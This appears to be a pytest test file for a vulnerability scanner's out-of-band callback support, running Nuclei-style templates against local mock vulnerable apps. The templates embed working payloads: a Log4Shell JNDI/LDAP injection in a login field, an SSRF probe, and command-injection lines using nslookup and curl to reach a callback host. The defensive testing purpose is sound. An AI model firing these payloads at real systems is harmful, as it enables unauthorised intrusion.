"""Templates with out-of-band callbacks ({{interactsh-url}}, interactsh_* parts) run
against mock targets that call back the platform's own callback server like vulnerable
applications do; a target that does not call back never matches."""

from __future__ import annotations

import re
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from shaobing.core.settings import reset_settings
from shaobing.templates.oob import OobServer, OobUnavailable, reset_shared_server
from shaobing.templates.output import result_record
from shaobing.templates.runner import execute
from tests.templates import oob_support
from tests.templates.conftest import (
    MockHttp,
    MockTcp,
    Reply,
    Route,
    Seen,
    context_for,
    write_template,
)
from tests.templates.oob_support import DOMAIN, WAIT, Vulnerable, request_text

HEAD = "id: oob-test\ninfo:\n  name: oob test\n  severity: high\n"
ID_HOST = re.compile(r"([a-z0-9]{24})\." + re.escape(DOMAIN))

LOG4J = (
    HEAD
    + r"""
variables:
  rand1: '{{rand_int(111, 999)}}'
  rand2: '{{rand_int(111, 999)}}'
http:
  - raw:
      - |
        POST /login HTTP/1.1
        Host: {{Hostname}}
        Content-Type: application/x-www-form-urlencoded

        username=${jndi:ldap://${:-{{rand1}}}${:-{{rand2}}}.${hostName}.username.{{interactsh-url}}/test}&password=x
    matchers-condition: and
    matchers:
      - type: word
        part: interactsh_protocol
        words:
          - "dns"
      - type: regex
        part: interactsh_request
        regex:
          - '\d{6}\.([a-zA-Z0-9\.\-]+)\.([a-z0-9]+)\.([a-z0-9]+)\.([a-z0-9]+)\.\w+'
    extractors:
      - type: kval
        kval:
          - interactsh_ip
      - type: regex
        part: interactsh_request
        group: 1
        regex:
          - '\d{6}\.([a-zA-Z0-9\.\-]+)\.([a-z0-9]+)\.([a-z0-9]+)\.([a-z0-9]+)\.\w+'
"""
)

SSRF = (
    HEAD
    + """
http:
  - method: GET
    path:
      - "{{BaseURL}}/fetch?url=http://{{interactsh-url}}/probe"
    matchers-condition: and
    matchers:
      - type: word
        part: interactsh_protocol
        words:
          - "http"
      - type: word
        part: interactsh_request
        words:
          - "User-Agent: Java"
"""
)


@pytest.fixture
def oob(monkeypatch: pytest.MonkeyPatch) -> Iterator[OobServer]:
    yield from oob_support.serve(monkeypatch)


def vulnerable_route(app: Vulnerable, reply: Reply | None = None) -> Route:
    """A route that processes the request as a vulnerable application, then answers."""

    def route(seen: Seen) -> Reply:
        app.react(request_text(seen.method, seen.path, seen.headers, seen.body))
        return reply or (200, {"Content-Type": "text/plain"}, b"ok")

    return route


def test_log4j_template_matches_on_the_dns_callback(
    tmp_path: Path, oob: OobServer, http_target: MockHttp
) -> None:
    app = Vulnerable(oob)
    http_target.routes["/login"] = vulnerable_route(app)
    template = write_template(tmp_path, LOG4J)
    assert template.runnable, template.unsupported
    report = execute(template, http_target.url, context_for(http_target.url))
    assert len(report.results) == 1, report.notes
    result = report.results[0]
    assert "127.0.0.1" in result.extracted and "victim-host" in result.extracted
    assert [i.protocol for i in result.interactions][:1] == ["dns"]
    # The LDAP connection carries no id (the DN is "test"): only DNS correlates, as with
    # interactsh.
    assert any(call.startswith("ldap ") for call in app.calls)
    (cid,) = ID_HOST.findall(http_target.seen[0].body.decode())
    assert all(i.correlation_id == cid for i in result.interactions)
    # Nuclei's JSONL carries the proving callback as "interaction".
    record = result_record(result)
    assert record["interaction"]["protocol"] == "dns"
    assert record["interaction"]["unique-id"] == cid


def test_ssrf_template_matches_on_http_and_the_callback_request(
    tmp_path: Path, oob: OobServer, http_target: MockHttp
) -> None:
    http_target.routes["/fetch"] = vulnerable_route(Vulnerable(oob))
    report = execute(write_template(tmp_path, SSRF), http_target.url, context_for(http_target.url))
    assert len(report.results) == 1
    protocols = {i.protocol for i in report.results[0].interactions}
    assert protocols == {"dns", "http"}
    http = next(i for i in report.results[0].interactions if i.protocol == "http")
    assert "GET /probe HTTP/1.1" in http.request


def test_ssrf_words_on_the_request_must_hold(
    tmp_path: Path, oob: OobServer, http_target: MockHttp
) -> None:
    # The callback arrives, but not from a Java client: the second matcher fails.
    http_target.routes["/fetch"] = vulnerable_route(Vulnerable(oob))
    template = write_template(tmp_path, SSRF.replace("User-Agent: Java", "User-Agent: curl"))
    assert execute(template, http_target.url, context_for(http_target.url)).results == []


@pytest.mark.parametrize("template_text", [LOG4J, SSRF])
def test_a_target_that_does_not_call_back_does_not_match(
    tmp_path: Path, oob: OobServer, http_target: MockHttp, template_text: str
) -> None:
    # Same answers as the vulnerable target, no callback.
    http_target.routes["*"] = (200, {"Content-Type": "text/plain"}, b"ok")
    started = time.monotonic()
    report = execute(
        write_template(tmp_path, template_text), http_target.url, context_for(http_target.url)
    )
    elapsed = time.monotonic() - started
    assert report.results == []
    assert len(http_target.seen) == 1
    assert WAIT * 0.9 <= elapsed < WAIT + 2.0  # it waited oob_wait for callbacks


def test_a_dns_only_callback_does_not_satisfy_an_http_matcher(
    tmp_path: Path, oob: OobServer, http_target: MockHttp
) -> None:
    http_target.routes["/fetch"] = vulnerable_route(Vulnerable(oob, connect=False))
    report = execute(write_template(tmp_path, SSRF), http_target.url, context_for(http_target.url))
    assert report.results == []


def test_callbacks_for_another_requests_id_never_match(
    tmp_path: Path, oob: OobServer, http_target: MockHttp
) -> None:
    app = Vulnerable(oob)
    first: list[str] = []

    def stale(seen: Seen) -> Reply:
        # Remembers the first request's payload and always calls back with that one.
        text = request_text(seen.method, seen.path, seen.headers, seen.body)
        first.append(first[0] if first else text)
        app.react(first[-1])
        return 200, {}, b"ok"

    http_target.routes["/fetch"] = stale
    template = write_template(tmp_path, SSRF)
    ctx = context_for(http_target.url)
    assert len(execute(template, http_target.url, ctx).results) == 1
    assert execute(template, http_target.url, ctx).results == []
    ids = [ID_HOST.findall(seen.path)[0] for seen in http_target.seen]
    assert len(set(ids)) == 2  # each request had its own id


def test_markers_of_one_request_share_an_id_and_requests_do_not(
    tmp_path: Path, oob: OobServer, http_target: MockHttp
) -> None:
    http_target.routes["*"] = (200, {}, b"ok")
    text = (
        HEAD
        + """
http:
  - method: POST
    path:
      - "{{BaseURL}}/a?u={{interactsh-url}}"
      - "{{BaseURL}}/b?u={{interactsh_url}}"
    headers:
      X-Callback: "{{interactsh-url}}"
    body: "ref={{ to_upper('{{interactsh-url}}') }}"
    matchers:
      - type: dsl
        dsl:
          - 'contains(interactsh_protocol, "dns")'
"""
    )
    execute(write_template(tmp_path, text), http_target.url, context_for(http_target.url))
    per_request = []
    for seen in http_target.seen:
        found = set(ID_HOST.findall(seen.path + seen.headers["X-Callback"]))
        found |= {m.lower() for m in re.findall(r"([A-Z0-9]{24})\.OOB\.TEST", seen.body.decode())}
        assert len(found) == 1, found
        per_request.append(found.pop())
    assert len(per_request) == 2 and per_request[0] != per_request[1]
    assert all(oob.registry.registered(cid) for cid in per_request)


def test_payload_values_and_template_variables_carry_the_url(
    tmp_path: Path, oob: OobServer, http_target: MockHttp
) -> None:
    stored: list[str] = []

    def upload(seen: Seen) -> Reply:
        stored.append(seen.body.decode())
        return 200, {"Server": "Cleo"}, b""

    def trigger(seen: Seen) -> Reply:
        # The stored payload runs later, on another request (Cleo-style autorun).
        Vulnerable(oob).react(stored[-1])
        return 200, {}, b""

    http_target.routes["/upload"] = upload
    http_target.routes["/run"] = trigger
    text = (
        HEAD
        + """
variables:
  oast: "{{interactsh-url}}"
  cmd: "{{ concat('nslookup ', '{{interactsh-url}}') }}"
http:
  - raw:
      - |
        POST /upload HTTP/1.1
        Host: {{Hostname}}

        {{cmd}} {{p}}
    payloads:
      p:
        - "curl http://{{interactsh-url}}/x"
    matchers:
      - type: dsl
        dsl:
          - 'contains(tolower(response), "cleo")'
        internal: true
  - raw:
      - |
        GET /run HTTP/1.1
        Host: {{Hostname}}

    matchers:
      - type: dsl
        dsl:
          - 'contains(interactsh_protocol, "dns")'
"""
    )
    template = write_template(tmp_path, text)
    report = execute(template, http_target.url, context_for(http_target.url))
    assert len(report.results) == 1
    body = stored[0]
    assert "{{" not in body
    (run_id,) = ID_HOST.findall(body.split(" curl")[0])
    (payload_id,) = ID_HOST.findall(body.split(" curl")[1])
    assert run_id != payload_id
    # The second block sent no URL: the run's id (from the template variables) matched
    # it. The payload's id belongs to the first block's request only: its HTTP callback
    # is not the second block's.
    interactions = report.results[0].interactions
    assert {i.correlation_id for i in interactions} == {run_id}
    assert [i.protocol for i in interactions] == ["dns"]
    assert {i.protocol for i in oob.registry.interactions([payload_id])} == {"dns", "http"}
    needs_http = write_template(tmp_path, text.replace('"dns")', '"http")'), "h.yaml")
    assert execute(needs_http, http_target.url, context_for(http_target.url)).results == []


def test_tcp_blocks_use_callbacks_too(tmp_path: Path, oob: OobServer, tcp_target: object) -> None:
    app = Vulnerable(oob)

    def respond(data: bytes) -> bytes:
        app.react(data.decode())
        return b"+OK\r\n"

    mock: MockTcp = tcp_target(respond)  # type: ignore[operator]
    text = (
        HEAD
        + """
tcp:
  - host:
      - "{{Hostname}}"
    inputs:
      - data: "RESOLVE {{interactsh-url}}\\r\\n"
    matchers-condition: and
    matchers:
      - type: word
        words:
          - "+OK"
      - type: word
        part: interactsh_protocol
        words:
          - "dns"
"""
    )
    target = f"127.0.0.1:{mock.port}"
    report = execute(write_template(tmp_path, text), target, context_for(target))
    assert len(report.results) == 1
    assert ID_HOST.search(mock.received[0].decode())


def test_a_failing_matcher_under_and_skips_the_wait(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, http_target: MockHttp
) -> None:
    for _ in oob_support.serve(monkeypatch, wait=3.0):
        http_target.routes["*"] = (404, {}, b"no")
        text = SSRF.replace(
            "    matchers:\n", "    matchers:\n      - type: status\n        status: [200]\n"
        )
        started = time.monotonic()
        report = execute(
            write_template(tmp_path, text), http_target.url, context_for(http_target.url)
        )
        assert report.results == []
        assert time.monotonic() - started < 1.5  # the 3 s wait could not change the outcome


def test_without_a_zone_the_template_is_refused_before_any_request(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, http_target: MockHttp
) -> None:
    monkeypatch.delenv("SHAOBING_OOB_DOMAIN", raising=False)
    reset_settings()
    reset_shared_server()
    http_target.routes["*"] = (200, {}, b"ok")
    # The first block needs no callback; the whole template is refused all the same.
    text = LOG4J.replace("http:\n", "http:\n  - method: GET\n    path: ['{{BaseURL}}/first']\n", 1)
    template = write_template(tmp_path, text)
    assert template.runnable  # the loader supports it; the run needs the configuration
    with pytest.raises(OobUnavailable) as caught:
        execute(template, http_target.url, context_for(http_target.url))
    assert "SHAOBING_OOB_DOMAIN" in caught.value.message
    assert str(template.path) in caught.value.message
    assert http_target.seen == []
    reset_settings()


def test_templates_without_callbacks_never_start_the_server(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, http_target: MockHttp
) -> None:
    monkeypatch.delenv("SHAOBING_OOB_DOMAIN", raising=False)
    reset_settings()
    http_target.routes["*"] = (200, {}, b"ok")
    text = HEAD + "http:\n  - path: ['{{BaseURL}}/']\n    matchers:\n      - type: status\n"
    text += "        status: [200]\n"
    report = execute(write_template(tmp_path, text), http_target.url, context_for(http_target.url))
    assert len(report.results) == 1
    reset_settings()


def test_only_callback_names_make_a_template_need_the_server(tmp_path: Path) -> None:
    from shaobing.templates.oob import template_needs_oob

    plain = HEAD + "http:\n  - path: ['{{BaseURL}}/']\n    matchers:\n      - type: word\n"
    plain += "        words: ['interactsh server']\n"
    assert not template_needs_oob(write_template(tmp_path, plain, "plain.yaml"))
    for text in (LOG4J, SSRF, plain.replace("interactsh server", "{{interactsh_url}}")):
        assert template_needs_oob(write_template(tmp_path, text, "needs.yaml"))
